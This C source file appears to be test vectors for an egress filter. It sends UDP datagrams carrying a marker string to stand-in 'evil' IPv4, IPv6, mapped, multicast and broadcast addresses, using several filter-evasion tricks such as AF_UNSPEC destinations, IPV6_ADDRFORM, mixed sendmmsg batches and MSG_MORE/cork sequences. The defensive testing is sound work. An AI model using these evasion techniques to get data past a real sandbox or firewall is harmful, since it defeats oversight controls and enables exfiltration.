// SPDX-License-Identifier: MIT
#include "egress.h"

#include <netinet/udp.h>
#include <string.h>
#include <sys/uio.h>

static void udp_sendto(int)
{
	send_ipv4(open_socket(AF_INET, SOCK_DGRAM, 0), EVIL_IPV4);
}

static void udp_sendto_ok(int)
{
	send_ipv4(open_socket(AF_INET, SOCK_DGRAM, 0), OK_IPV4);
}

static void udp_connect_send(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	connect_ipv4(fd, EVIL_IPV4);
	send_to(fd, 0, NULL, 0);
}

static void udp_connect_send_ok(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	connect_ipv4(fd, OK_IPV4);
	send_to(fd, 0, NULL, 0);
}

/* What getaddrinfo() does to each address of a name, to sort them. */
static void udp_connect_only(int)
{
	connect_ipv4(open_socket(AF_INET, SOCK_DGRAM, 0), EVIL_IPV4);
}

static void udp_connect_port0(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	destination.sin_port = 0;
	connect_to(fd, &destination, sizeof(destination));
	send_to(fd, 0, NULL, 0);
}

static void udp_connect_write(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	struct iovec parts[2] = {{self.marker, 6}, {self.marker + 6, strlen(self.marker) - 6}};

	connect_ipv4(fd, EVIL_IPV4);
	step("writev", writev(fd, parts, 2));
}

static void udp_sendto_unspec(int)
{
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	destination.sin_family = AF_UNSPEC;
	send_to(open_socket(AF_INET, SOCK_DGRAM, 0), 0, &destination, sizeof(destination));
}

static void udp6_sendto(int)
{
	send_ipv6(open_socket(AF_INET6, SOCK_DGRAM, 0), EVIL_IPV6);
}

static void udp6_sendto_ok(int)
{
	send_ipv6(open_socket(AF_INET6, SOCK_DGRAM, 0), OK_IPV6);
}

static void udp6_sendto_short(int)
{
	struct sockaddr_in6 destination = ipv6(EVIL_IPV6);

	send_to(open_socket(AF_INET6, SOCK_DGRAM, 0), 0, &destination, 24);
}

static void udp6_sendto_ipv4(int)
{
	send_ipv4(open_socket(AF_INET6, SOCK_DGRAM, 0), EVIL_IPV4);
}

static void udp6_connect_ipv4(int)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, 0);

	connect_ipv4(fd, EVIL_IPV4);
	send_to(fd, 0, NULL, 0);
}

static void udp6_sendto_mapped(int)
{
	send_ipv6(open_socket(AF_INET6, SOCK_DGRAM, 0), EVIL_MAPPED);
}

static void udp6_connect_mapped(int)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, 0);

	connect_ipv6(fd, EVIL_MAPPED);
	send_to(fd, 0, NULL, 0);
}

/* Turns an IPv6 socket into an IPv4 one, for which an address without a family is IPv4. */
static void udp6_addrform_unspec(int)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, 0), family = AF_INET;
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	connect_ipv6(fd, "::ffff:" OK_IPV4);
	set_option(fd, IPPROTO_IPV6, IPV6_ADDRFORM, &family, sizeof(family));
	destination.sin_family = AF_UNSPEC;
	send_to(fd, 0, &destination, sizeof(destination));
}

/* IPv6 takes an address without a family for none at all: it goes to the peer. */
static void udp6_connected_unspec(int)
{
	int fd = open_socket(AF_INET6, SOCK_DGRAM, 0);
	struct sockaddr_in6 destination = ipv6(EVIL_IPV6);

	connect_ipv6(fd, OK_IPV6);
	destination.sin6_family = AF_UNSPEC;
	send_to(fd, 0, &destination, sizeof(destination));
}

static void udp_connected_sendto(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);

	connect_ipv4(fd, OK_IPV4);
	send_ipv4(fd, EVIL_IPV4);
}

static void udp_reconnect(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in none = ipv4("0.0.0.0");

	connect_ipv4(fd, OK_IPV4);
	send_to(fd, 0, NULL, 0);
	none.sin_family = AF_UNSPEC;
	connect_to(fd, &none, sizeof(none));
	connect_ipv4(fd, EVIL_IPV4);
	send_to(fd, 0, NULL, 0);
}

static void send_three(const char *first, const char *second, const char *third)
{
	struct sockaddr_in destinations[3] = {ipv4(first), ipv4(second), ipv4(third)};
	struct iovec payload = {self.marker, strlen(self.marker)};
	struct mmsghdr messages[3] = {};

	for (int i = 0; i < 3; i++) {
		messages[i].msg_hdr.msg_name = &destinations[i];
		messages[i].msg_hdr.msg_namelen = sizeof(destinations[i]);
		messages[i].msg_hdr.msg_iov = &payload;
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	step("sendmmsg", sendmmsg(open_socket(AF_INET, SOCK_DGRAM, 0), messages, 3, 0));
}

/* The kernel asks once for a row of messages to the same address. */
static void udp_sendmmsg_same(int)
{
	send_three(EVIL_IPV4, EVIL_IPV4, EVIL_IPV4);
}

static void udp_sendmmsg_mixed(int)
{
	send_three(OK_IPV4, EVIL_IPV4, OK_IPV4);
}

static void udp_sendmsg(int)
{
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	struct iovec payload = {self.marker, strlen(self.marker)};
	struct msghdr message = {
		.msg_name = &destination,
		.msg_namelen = sizeof(destination),
		.msg_iov = &payload,
		.msg_iovlen = 1,
	};

	step("sendmsg", sendmsg(open_socket(AF_INET, SOCK_DGRAM, 0), &message, 0));
}

/* The datagram goes where its first part was sent. */
static void udp_more(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in destination = ipv4(OK_IPV4);

	send_to(fd, MSG_MORE, &destination, sizeof(destination));
	send_ipv4(fd, EVIL_IPV4);
}

static void udp_more_evil(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	send_to(fd, MSG_MORE, &destination, sizeof(destination));
	send_ipv4(fd, OK_IPV4);
}

/* Nothing leaves before the cork does. */
static void udp_cork(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0), yes = 1, no = 0;

	set_option(fd, IPPROTO_UDP, UDP_CORK, &yes, sizeof(yes));
	send_ipv4(fd, EVIL_IPV4);
	set_option(fd, IPPROTO_UDP, UDP_CORK, &no, sizeof(no));
}

static void udp_multicast(int)
{
	send_ipv4(open_socket(AF_INET, SOCK_DGRAM, 0), EVIL_MULTICAST);
}

static void udp_broadcast(int)
{
	int fd = open_socket(AF_INET, SOCK_DGRAM, 0), yes = 1;

	set_option(fd, SOL_SOCKET, SO_BROADCAST, &yes, sizeof(yes));
	send_ipv4(fd, EVIL_BROADCAST);
}

const struct vector udp_vectors[] = {
	{"udp_sendto", udp_sendto},
	{"udp_sendto_ok", udp_sendto_ok},
	{"udp_connect_send", udp_connect_send},
	{"udp_connect_send_ok", udp_connect_send_ok},
	{"udp_connect_only", udp_connect_only},
	{"udp_connect_port0", udp_connect_port0},
	{"udp_connect_write", udp_connect_write},
	{"udp_sendto_unspec", udp_sendto_unspec},
	{"udp6_sendto", udp6_sendto},
	{"udp6_sendto_ok", udp6_sendto_ok},
	{"udp6_sendto_short", udp6_sendto_short},
	{"udp6_sendto_ipv4", udp6_sendto_ipv4},
	{"udp6_connect_ipv4", udp6_connect_ipv4},
	{"udp6_sendto_mapped", udp6_sendto_mapped},
	{"udp6_connect_mapped", udp6_connect_mapped},
	{"udp6_addrform_unspec", udp6_addrform_unspec},
	{"udp6_connected_unspec", udp6_connected_unspec},
	{"udp_connected_sendto", udp_connected_sendto},
	{"udp_reconnect", udp_reconnect},
	{"udp_sendmmsg_same", udp_sendmmsg_same},
	{"udp_sendmmsg_mixed", udp_sendmmsg_mixed},
	{"udp_sendmsg", udp_sendmsg},
	{"udp_more", udp_more},
	{"udp_more_evil", udp_more_evil},
	{"udp_cork", udp_cork},
	{"udp_multicast", udp_multicast},
	{"udp_broadcast", udp_broadcast},
	{},
};
